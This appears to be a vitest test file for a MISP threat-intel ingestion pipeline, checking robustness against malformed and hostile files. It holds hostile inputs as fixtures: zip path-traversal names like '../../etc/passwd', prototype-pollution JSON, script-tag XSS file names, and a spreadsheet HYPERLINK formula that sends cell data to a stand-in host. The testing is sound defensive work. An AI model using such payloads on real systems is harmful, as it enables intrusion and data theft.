import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ConfigInput } from '../../functions/shared/config.ts';
import type { Receipt } from '../../local/receipts/receipts.ts';
import { type FrontDoor, openFrontDoor } from '../support/front-door.ts';
import { fileOf, HEADER, row } from '../support/ransomwatch.ts';
import { counts, expectToAddUp } from '../support/receipts.ts';
import { zip } from '../support/zip.ts';

type Source = ConfigInput['sources'][string];

function table(rows: object, column = 'value'): Source {
  const attributes = [{ type: 'text', value: `{${column}}` }];
  const event = { of: 'each-row', info: `{${column}}`, date: '2026-01-31' };
  return { format: 'table', servers: ['main'], options: { rows, event, attributes } } as Source;
}

const SOURCES: ConfigInput['sources'] = {
  'misp-csv': { format: 'misp-csv', servers: ['main'] },
  'misp-json': { format: 'misp-json', servers: ['main'] },
  text: { format: 'text', servers: ['main'] },
  csv: table({ as: 'delimited', delimiter: ',' }),
  'json-lines': table({ as: 'json-lines' }),
  'json-array': table({ as: 'json-array' }),
  'key-value': table({ as: 'key-value' }),
  'access-log': table({ as: 'access-log' }, 'host'),
  prototype: table({ as: 'delimited', delimiter: ',' }, '__proto__'),
};

let door: FrontDoor;
beforeAll(async () => {
  door = await openFrontDoor({ moreSources: SOURCES });
});
afterAll(() => door.close());

async function ingest(source: string, file: string, bytes: Uint8Array | string): Promise<Receipt> {
  const key = await door.stack.drop(source, file, bytes);
  const receipt = await door.stack.waitForReceipt(key, { timeoutSeconds: 60 });
  expect(door.stack.failures()).toEqual([]);
  return expectToAddUp(receipt);
}

const said = ({ rejections }: Receipt) => rejections.map(({ row, reason }) => `${row}: ${reason}`);
const infos = () => door.misp.events().map(({ Event }) => Event.info);

describe('one line', () => {
  const TOO_LONG = /^1: is longer than 1048576 characters$/;
  test.each([
    ['ransomwatch', 100, TOO_LONG],
    ['misp-csv', 10, TOO_LONG],
    ['misp-json', 10, /^0: is no JSON of MISP events; it begins with "xxxxx/],
    ['text', 10, TOO_LONG],
    ['csv', 10, /^0: the header, row 1, is longer than 1048576 characters$/],
    ['json-lines', 10, TOO_LONG],
    ['json-array', 10, /^0: the JSON is cut off after row 0/],
    ['key-value', 10, TOO_LONG],
    ['access-log', 10, TOO_LONG],
  ])(
    'of %s of %i MB is refused with a reason',
    async (source, megabytes, reason) => {
      const receipt = await ingest(source, 'line', Buffer.alloc(megabytes * 1_000_000, 'x'));
      expect(said(receipt)[0]).toMatch(reason);
      expect(receipt.events).toEqual([]);
    },
    60_000,
  );

  test.each([
    ['behind a quote that nobody closes', '"', TOO_LONG],
    ['of nothing but quotes', '"'.repeat(64), TOO_LONG],
    ['of nothing but tabs', '\t'.repeat(64), undefined],
    ['of nothing but brackets', '['.repeat(64), TOO_LONG],
  ])('of 10 MB %s harms no row after it', async (name, unit, reason) => {
    const line = unit.length === 1 ? `${unit}${'x'.repeat(10_000_000)}` : unit.repeat(10_000_000 / 64);
    const receipt = await ingest('ransomwatch', `line ${name}`, `${line}\n${row(`Behind ${name}`)}`);
    expect(receipt.rows).toMatchObject({ saved: 1, rejected: reason ? 1 : 0 });
    if (reason) expect(said(receipt)[0]).toMatch(reason);
  });
});

test('a header of 200,000 columns takes no longer than any other of its length', async () => {
  const receipt = await ingest('csv', 'columns', `${'a,'.repeat(200_000)}\n${'x\n'.repeat(2_000)}`);
  const [reason = '', ...others] = said(receipt);
  expect(reason).toMatch(/^\d: has 1 column; the header has 200001: a \(1\), a \(2\), .* and 199941 more$/);
  expect(others).toHaveLength(1_999);
});

test('a hundred thousand blank lines in a gzip are no rows', async () => {
  for (const source of ['ransomwatch', 'text']) {
    const receipt = await ingest(source, 'blank.gz', gzipSync(`${'\n'.repeat(100_000)}`));
    expect(receipt.rows).toEqual(counts({}));
  }
});

describe('a zip', () => {
  test('of a thousand files is read whole, in the order of its directory', async () => {
    const files = Array.from({ length: 1_000 }, (_, i): [string, string] => [
      `${i}.tsv`,
      i % 100 === 0 ? row(`In a zip ${i}`) : '\n',
    ]);
    const receipt = await ingest('ransomwatch', 'thousand.zip', zip(Object.fromEntries(files)));
    expect(receipt.rows).toEqual(counts({ read: 10, saved: 10 }));
  }, 60_000);

  test.each(['../../etc/passwd', 'C:\\a.tsv', '/etc/a.tsv'])(
    'with a file named %s is read without it, and says so',
    async (name) => {
      const bytes = zip({ [name]: row(`From ${name}`), 'b.tsv': row(`Beside ${name}`) });
      const receipt = await ingest('ransomwatch', 'paths.zip', bytes);
      expect(said(receipt)).toEqual([
        expect.stringMatching(/^0: .*: Its name leads out of the zip \(.*; pack it without that path/),
      ]);
      expect(receipt.rows.saved).toBe(1);
    },
  );

  test('that lies of the sizes of its files is said to be broken', async () => {
    const receipt = await ingest('ransomwatch', 'lies.zip', zip({ 'a.tsv': row('Lied') }, { claim: 3 }));
    expect(said(receipt)).toEqual([expect.stringMatching(/^0: a\.tsv: The zip is broken/)]);
  });
});

describe('a gzip that is not well to its end', () => {
  const REPORT = gzipSync('Report\nseen at 198.51.100.23\nand at 203.0.113.77');
  const valuesOf = (file: string) =>
    door.misp
      .events()
      .filter(({ Event }) => Event.info.includes(file))
      .flatMap(({ Event }) => Event.Attribute.map(({ value }) => value));

  test('has in MISP what it says before it is cut, but not the line that is', async () => {
    const text = `Cut short\n${Array.from({ length: 60 }, (_, i) => `seen at 198.51.100.${i}`).join('\n')}`;
    const receipt = await ingest('text', 'cut.txt.gz', gzipSync(text, { level: 0 }).subarray(0, -12));
    expect(said(receipt)).toEqual([expect.stringMatching(/^0: The gzip archive is broken or ends early/)]);
    expect(receipt.rows).toMatchObject({ failed: 0, dropped: 0 });
    expect(valuesOf('Cut short')).toEqual(Array.from({ length: 59 }, (_, i) => `198.51.100.${i}`));
  });

  test('has all that stands before what is no gzip', async () => {
    const receipt = await ingest('text', 'behind.txt.gz', Buffer.concat([REPORT, Buffer.from('garbage')]));
    expect(said(receipt)).toEqual([expect.stringMatching(/^0: Behind the end of the gzip archive stands/)]);
    expect(receipt.rows).toEqual(counts({ read: 2, saved: 2 }));
  });
});

describe('what is no text costs its row alone:', () => {
  const good = row('Good beside it');
  test.each([
    ['bytes that are no UTF-8', Buffer.from([0xff, 0xfe, 0x80])],
    ['half of a character', Buffer.from([0xe3, 0x81])],
    ['a lone surrogate, as UTF-8 has none', Buffer.from([0xed, 0xa0, 0x80])],
  ])('%s', async (_, bytes) => {
    const bad = Buffer.from(row('BAD').replace('BAD', 'aäöü')).toString('latin1').replace('a', '\0');
    const at = Buffer.from(bad, 'latin1').indexOf(0);
    const broken = Buffer.concat([
      Buffer.from(bad.slice(0, at), 'latin1'),
      bytes,
      Buffer.from(bad.slice(at + 1), 'latin1'),
    ]);
    const receipt = await ingest(
      'ransomwatch',
      'broken.tsv',
      Buffer.concat([Buffer.from(HEADER), broken, Buffer.from(good)]),
    );
    expect(said(receipt)).toEqual([expect.stringMatching(/^2: has bytes that are no text in utf-8/)]);
    expect(receipt.rows.read).toBe(2);
  });

  test('NUL bytes', async () => {
    const receipt = await ingest('ransomwatch', 'nul.tsv', HEADER + row('N\0L') + good);
    expect(receipt.rows.read).toBe(2);
    expect(receipt.rows.failed).toBe(0);
  });

  test('a lone surrogate that JSON writes as an escape', async () => {
    const receipt = await ingest(
      'json-lines',
      'surrogate',
      '{"value":"\\ud800 alone"}\n{"value":"beside one"}\n',
    );
    expect(receipt.rows).toMatchObject({ read: 2, failed: 0 });
    expect(infos()).toContain('beside one');
  });
});

describe('names that are parts of JavaScript', () => {
  test('are columns like any other', async () => {
    const text = '__proto__,constructor,toString\na.example,b,c\n';
    expect((await ingest('prototype', 'columns', text)).rows).toEqual(counts({ read: 1, saved: 1 }));
    expect(infos()).toContain('a.example');
  });

  test('are no value of a JSON object that has them not', async () => {
    const text =
      '{"__proto__":{"value":"polluted"}}\n{"constructor":{"prototype":{"value":1}}}\n{"value":"clean"}\n';
    const receipt = await ingest('json-lines', 'keys', text);
    expect(receipt.rows.failed).toBe(0);
    expect(infos()).not.toContain('polluted');
  });
});

test.each([
  [
    'json-lines',
    `{"value":${'['.repeat(100_000)}${']'.repeat(100_000)}}\n`,
    /^1: is nested deeper than 32 levels/,
  ],
  [
    'json-array',
    `[{"value":${'['.repeat(100_000)}${']'.repeat(100_000)}}]`,
    /^1: is nested deeper than 32 levels/,
  ],
  [
    'misp-json',
    `{"Event":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}`,
    /^1: is nested more than 100 deep/,
  ],
])('JSON 100,000 levels deep is refused: %s', async (source, text, reason) => {
  expect(said(await ingest(source, 'deep.json', text))).toEqual([expect.stringMatching(reason)]);
});

test('what a spreadsheet would run is in MISP as it stands in the file, and in the page as text', async () => {
  const formula = `=HYPERLINK("http://a.example/?"&A1,"<img src=x onerror=alert(1)>")`;
  const receipt = await ingest(
    'ransomwatch',
    'formula.tsv',
    HEADER + row('Fine', { actor: `"${formula.replaceAll('"', '""')}"` }),
  );
  expect(receipt.rows).toEqual(counts({ read: 1, saved: 1 }));
  expect(infos()).toContain(`[ransomwatch] ${formula} - victim:Fine(2024-03-04 02:15:33)`);
});

describe('a file named', () => {
  test.each([
    ['with dots and slashes', 'a/../../b.tsv'],
    ['with HTML', '<script>alert(1)</script>.tsv'],
    ['from right to left', '\u202egnp.tsv'],
    ['in two lines', 'a\nb.tsv'],
    ['like a part of JavaScript', '__proto__'],
  ])('%s has a receipt in the folder of its source, and a page that runs nothing', async (_, file) => {
    const receipt = await ingest('ransomwatch', file, fileOf(`Named ${JSON.stringify(file)}`));
    expect(receipt).toMatchObject({ file, rows: counts({ read: 1, saved: 1 }) });
    const keys = (await door.stack.receipts.keys()).filter((key) => key.includes(receipt.run));
    expect(keys.every((key) => key.startsWith('receipts/ransomwatch/'))).toBe(true);
  });
});

test('names and texts that MISP answers by 500 are fitted to it, and the receipt says so', async () => {
  const long = `${'n'.repeat(300)}\u{1F4A5}`;
  const attribute = { type: 'text', value: 'fitted', object_relation: long };
  const template = { template_uuid: '6d8b1e0c-6a5e-4f0e-9f6b-0d4f3a2b1c0d', template_version: '1' };
  const object = { name: long, 'meta-category': long, description: long.repeat(300), comment: long };
  const event = {
    info: `${long} ${'i'.repeat(70_000)}`,
    date: '2026-01-31',
    Tag: [{ name: long }],
    Attribute: [{ type: 'text', value: 'beside', comment: long.repeat(300) }],
    Object: [{ ...object, ...template, Attribute: [attribute] }],
    EventReport: [{ name: long, content: long }],
  };
  const receipt = await ingest('misp-json', 'long-names.json', JSON.stringify({ Event: event }));
  expect(receipt.rows).toEqual(counts({ read: 1, saved: 1 }));
  const adjusted = receipt.events[0]?.adjusted ?? [];
  expect(new Set(adjusted.map(({ field }) => field))).toEqual(
    new Set([
      'info',
      'tag',
      'comment',
      'object name',
      'meta-category',
      'description',
      'object_relation',
      'report name',
      'report',
    ]),
  );
  expect(door.misp.requests().filter(({ status }) => status === 500)).toEqual([]);
});
